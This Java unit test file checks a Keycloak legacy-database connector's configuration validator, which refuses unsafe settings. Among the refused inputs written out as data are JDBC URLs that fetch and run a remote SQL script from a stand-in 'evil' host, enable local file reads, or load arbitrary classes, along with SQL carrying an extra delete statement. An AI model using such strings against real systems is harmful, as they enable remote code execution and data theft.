package org.ciampack.federation;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.keycloak.component.ComponentModel;

class LegacyStoreConfigTest {

    @Test
    void defaultsFitATypicalShopSchemaAndNeedOnlyTheUrl() {
        LegacyStoreConfig config = LegacyStoreConfig.of(component("jdbc:postgresql://legacy:5432/shop"));

        assertThat(config.problems()).isEmpty();
        assertThat(config.columns().username()).isEqualTo("username");
        assertThat(config.columns().password()).isEqualTo("password_hash");
        assertThat(config.poolSize()).isEqualTo(8);
        assertThat(config.checkPolicyAtMigration()).isTrue();
    }

    @Test
    void urlsOfDriversThatCanRunCodeAndStatementsThatAreNotOneSelectAreRefused() {
        assertThat(LegacyStoreConfig.of(component("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'")).problems())
                .anyMatch(problem -> problem.contains("JDBC URL"));
        ComponentModel model = component("jdbc:mysql://legacy/shop");
        model.put(LegacyStoreConfig.BY_USERNAME_SQL, "select * from customers where username = ?; delete from x");
        model.put(LegacyStoreConfig.COUNT_SQL, "delete from customers where id = ?");
        model.put(LegacyStoreConfig.POOL_SIZE, "1000");
        assertThat(LegacyStoreConfig.of(model).problems()).hasSize(3);
    }

    @Test
    void urlPropertiesThatReadFilesOrLoadClassesAreRefused() {
        assertThat(LegacyStoreConfig.of(component("jdbc:mysql://legacy:3306/shop?sslMode=REQUIRED")).problems()).isEmpty();
        assertThat(LegacyStoreConfig.of(component("jdbc:postgresql://legacy/shop?sslmode=verify-full&ApplicationName=kc"))
                .problems()).isEmpty();
        for (String url : new String[] {"jdbc:mysql://evil/x?allowLoadLocalInfile=true",
                "jdbc:mysql://address=(host=evil)(allowLoadLocalInfile=true)/x",
                "jdbc:postgresql://legacy/shop?socketFactory=org.example.Evil",
                "jdbc:postgresql://user:secret@legacy/shop", "jdbc:mysql://legacy/shop?password=secret",
                "jdbc:postgresql://legacy/shop?sslmode=require&loggerFile=/tmp/x"}) {
            assertThat(LegacyStoreConfig.of(component(url)).problems()).as(url).isNotEmpty();
        }
    }

    @Test
    void theHostIsWhatTheServerConnectsToAndAnH2FileHasNone() {
        assertThat(LegacyStoreConfig.of(component("jdbc:postgresql://legacy-db.internal:5432/shop?sslmode=require"))
                .host()).isEqualTo("legacy-db.internal");
        assertThat(LegacyStoreConfig.of(component("jdbc:mariadb://10.20.0.15/shop")).host()).isEqualTo("10.20.0.15");
        assertThat(LegacyStoreConfig.of(component("jdbc:h2:file:/srv/ciam/legacy/old-shop")).host()).isNull();
        assertThat(LegacyStoreConfig.of(component("jdbc:mysql://address=(host=evil)/x")).host()).isNull();
    }

    @Test
    void h2FilesOnlyInTheFolderTheOperatorAllowsAndWithoutSettings() {
        java.nio.file.Path demo = java.nio.file.Path.of("/srv/ciam/legacy");
        LegacyStoreConfig inside = LegacyStoreConfig.of(component("jdbc:h2:file:/srv/ciam/legacy/old-shop"));

        assertThat(inside.isH2File()).isTrue();
        assertThat(inside.problems(demo)).isEmpty();
        assertThat(inside.problems(null)).as("no folder allowed by the operator").hasSize(1);
        assertThat(inside.problems()).hasSize(1);
        for (String url : new String[] {"jdbc:h2:file:/srv/ciam/other/shop", "jdbc:h2:file:/srv/ciam/legacy/../x",
                "jdbc:h2:file:/srv/ciam/legacy/shop;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:h2:file:/srv/ciam/legacy/shop;IFEXISTS=FALSE", "jdbc:h2:mem:shop", "jdbc:h2:tcp://evil/shop",
                "jdbc:h2:file:/srv/ciam/legacy"}) {
            assertThat(LegacyStoreConfig.of(component(url)).problems(demo)).as(url).isNotEmpty();
        }
    }

    @Test
    void thePasswordMayReadOnlyTheStoresOwnVaultKeys() {
        for (String allowed : java.util.List.of("${vault.legacy-shop-db}", "${vault.legacy-a.b_c}", "", "a literal")) {
            ComponentModel model = component("jdbc:postgresql://legacy:5432/shop");
            model.put(LegacyStoreConfig.PASSWORD, allowed);
            assertThat(LegacyStoreConfig.of(model).problems()).as(allowed).isEmpty();
        }
        for (String refused : java.util.List.of("${vault.export-webhook-secret}", "${vault.consent-pseudonym-key}",
                "${vault.smtp-password}", "${vault.legacy-}", "${vault.legacy-../x}", "${vault.}")) {
            ComponentModel model = component("jdbc:postgresql://legacy:5432/shop");
            model.put(LegacyStoreConfig.PASSWORD, refused);
            assertThat(LegacyStoreConfig.of(model).problems()).as(refused)
                    .anyMatch(problem -> problem.contains("vault keys starting with 'legacy-'"));
        }
    }

    @Test
    void failedSignInsTakeAtLeastWhatTheAdminSetsFromNoneTo10Seconds() {
        assertThat(LegacyStoreConfig.failureFloor(component("jdbc:mysql://legacy/shop"))).isZero();
        ComponentModel model = component("jdbc:mysql://legacy/shop");
        model.put(LegacyStoreConfig.FAILURE_FLOOR_MILLIS, "600");
        assertThat(LegacyStoreConfig.failureFloor(model)).hasMillis(600);
        assertThat(LegacyStoreConfig.of(model).problems()).isEmpty();
        for (String refused : new String[] {"-1", "10001", "half a second"}) {
            model.put(LegacyStoreConfig.FAILURE_FLOOR_MILLIS, refused);
            assertThat(LegacyStoreConfig.of(model).problems()).as(refused).hasSize(1);
            assertThat(LegacyStoreConfig.failureFloor(model)).as(refused).isZero();
        }
    }

    @Test
    void moreColumnsMapToAttributes() {
        ComponentModel model = component("jdbc:mariadb://legacy/shop");
        model.getConfig().put(LegacyStoreConfig.ATTRIBUTE_COLUMNS,
                java.util.List.of("phone_number=phone", "loyalty_tier = tier", "broken"));

        assertThat(LegacyStoreConfig.of(model).columns().attributes())
                .containsExactlyInAnyOrderEntriesOf(java.util.Map.of("phone_number", "phone", "loyalty_tier", "tier"));
    }

    private static ComponentModel component(String url) {
        ComponentModel model = new ComponentModel();
        model.put(LegacyStoreConfig.JDBC_URL, url);
        return model;
    }
}
